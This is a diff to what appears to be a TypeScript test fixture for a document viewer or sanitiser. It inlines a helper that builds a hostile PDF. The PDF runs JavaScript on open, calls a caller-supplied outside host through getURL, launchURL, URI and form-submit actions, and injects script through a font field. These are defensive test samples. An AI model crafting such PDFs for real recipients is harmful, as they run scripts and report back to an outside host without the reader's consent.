@@ -1,6 +1,6 @@
 import { packZip } from '@skyshelf/testing';
+import { pdfOf } from '../pdf-of.js';
 import { sampleImage } from '../sample-image.js';
-import { scriptedPdf } from './scripted-pdf.js';
 
 export interface HostileFile {
   name: string;
@@ -61,3 +61,18 @@ export async function hostileFiles(elsewhere: string): Promise<HostileFile[]> {
     { name: 'page.docx', type: 'application/msword', bytes: packZip({ 'index.html': html('docx') }) },
   ];
 }
+
+/** One page that runs scripts and calls elsewhere when it is opened, where the reader lets it. */
+function scriptedPdf(elsewhere: string): Buffer {
+  const javascript = `app.alert('hostile'); this.getURL('${elsewhere}/pdf-script'); app.launchURL('${elsewhere}/pdf-launch', true);`;
+  const objects = [
+    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${escaped(javascript)}) >> /AcroForm << /Fields [5 0 R] >> >>`,
+    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
+    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); window.hostile\\('font'\\)//)] >> >> >> /Annots [5 0 R] /AA << /O << /S /URI /URI (${elsewhere}/pdf-open) >> >> >>`,
+    '<< /Length 37 >>\nstream\nBT /F 20 Tf 10 50 Td (Skyshelf) Tj ET\nendstream',
+    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 9 9] /AA << /PV << /S /SubmitForm /F (${elsewhere}/pdf-form) >> >> >>`,
+  ];
+  return pdfOf(objects);
+}
+
+const escaped = (text: string): string => text.replace(/[()\\]/g, '\\$&');
